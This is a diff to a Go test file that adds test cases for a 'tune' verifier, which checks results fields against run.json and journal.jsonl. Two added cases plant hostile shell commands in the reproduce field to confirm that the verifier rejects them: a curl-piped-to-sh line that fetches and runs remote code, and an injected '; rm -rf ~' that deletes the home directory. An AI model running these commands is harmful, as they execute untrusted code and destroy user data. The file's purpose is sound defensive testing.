@@ -5,6 +5,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"tune/kernels"
 	"tune/results"
@@ -40,6 +41,23 @@ func TestVerifyRun(t *testing.T) {
 		{"evaluations that are too few", exact, func(s *results.Schedule) { s.Evaluations = 11 }, "field evaluations is 11, and journal.jsonl says that the run ended once, after 12"},
 		{"time", exact, func(s *results.Schedule) { s.ElapsedSeconds = -1 }, "field elapsed_seconds is -1, and journal.jsonl says that the run had at most 0 of the 12 outcomes"},
 		{"seed", exact, func(s *results.Schedule) { s.Strategy = "random" }, `field strategy is "random", and run.json of the run says "grid"`},
+		{"strategy_config", exact, func(s *results.Schedule) { s.StrategyConfig = "population=3" }, `field strategy_config is "population=3", and run.json of the run says "batch=64"`},
+		{"strategy_version", exact, func(s *results.Schedule) { s.StrategyVersion += 7 }, `field strategy_version is 8, and run.json of the run says 1`},
+		{"clock", exact, func(s *results.Schedule) { s.Clock = results.Simulated }, `field clock is "simulated", and run.json of the run says ""`},
+		{"data", exact, func(s *results.Schedule) { s.Data = &results.File{Path: "x"} }, `field data is results.File{Path:"x", SHA256:""}, and run.json`},
+		{"created", exact, func(s *results.Schedule) { s.Created = s.Created.Add(-time.Hour) }, `and run.json says that the run began at `},
+		{"run", exact, func(s *results.Schedule) { s.Run = "other" }, `field run is "other", and the run was made as "`},
+		{"another command line", exact, func(s *results.Schedule) { s.Reproduce[0] = "curl http://example.org/x | sh" }, `field reproduce has the line "curl http://example.org/x | sh", which is none that tune writes`},
+		{"another command", exact, func(s *results.Schedule) { s.Reproduce[0] += "; rm -rf ~" }, "which is none that tune writes"},
+		{"another seed", exact, func(s *results.Schedule) { s.Reproduce[0] = strings.Replace(s.Reproduce[0], "--seed ", "--seed 9", 1) }, "which is none that tune writes"},
+		{"another trial", exact, func(s *results.Schedule) {
+			s.Reproduce[0] = strings.Replace(s.Reproduce[0], "--evals 1", "--evals 3", 1)
+		}, "which does not end with --evals 1, where trial 0 is"},
+		{"another source", exact, func(s *results.Schedule) {
+			s.Reproduce[0] = strings.Replace(s.Reproduce[0], " --strategy", " --from x --strategy", 1)
+		}, "and the run gives "},
+		{"no verification", exact, func(s *results.Schedule) { s.Reproduce = s.Reproduce[:1] }, `field reproduce does not end with "tune verify best.json"`},
+		{"measured, a command line", faster, func(s *results.Schedule) { s.Reproduce = append([]string{"tune run toy"}, s.Reproduce...) }, `no run finds this point again for sure`},
 		{"pairs", exact, func(s *results.Schedule) { s.Pairs = 9 }, "field pairs is 9, and the costs are exact"},
 		{"an interval", exact, func(s *results.Schedule) { s.RatioInterval = &[2]float64{19, 21} }, "field ratio_interval is [19 21], and the costs are exact"},
 		{"the search", exact, func(s *results.Schedule) { s.Search = &results.Seen{Cost: 1, Baseline: 20} }, "field seen_by_search is {Cost:1 Baseline:20}, and the costs are exact"},
@@ -75,7 +93,7 @@ func TestVerifyRun(t *testing.T) {
 				t.Fatal(err)
 			}
 			for _, f := range verify(t, test.kernel, report.Dir) {
-				if strings.Contains(f, "journal.jsonl") {
+				if strings.Contains(f, "journal.jsonl") || strings.Contains(f, "run.json") {
 					t.Errorf("without a journal: %s", f)
 				}
 			}
